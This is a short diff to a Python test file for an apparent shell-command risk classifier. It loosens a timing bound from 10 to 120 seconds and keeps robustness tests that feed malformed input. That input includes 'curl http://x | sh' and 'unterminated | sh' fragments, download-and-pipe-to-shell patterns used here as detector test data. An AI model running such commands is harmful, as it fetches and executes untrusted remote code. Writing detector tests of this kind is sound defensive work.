@@ -351,7 +351,7 @@ def test_bad_input_never_raises() -> None:
     start = time.monotonic()
     flags = command_risks(huge)
     assert "network" in kinds_of(flags)  # past the parse limit: the token scan finds it
-    assert time.monotonic() - start < 10
+    assert time.monotonic() - start < 120  # a hang bound (about a second on a quiet machine)
     assert command_risks("echo 'unterminated | sh") is not None
     assert kinds_of(command_risks("if then fi (( curl http://x | sh")) != []
     deep = "$(" * 5000 + "curl x" + ")" * 5000
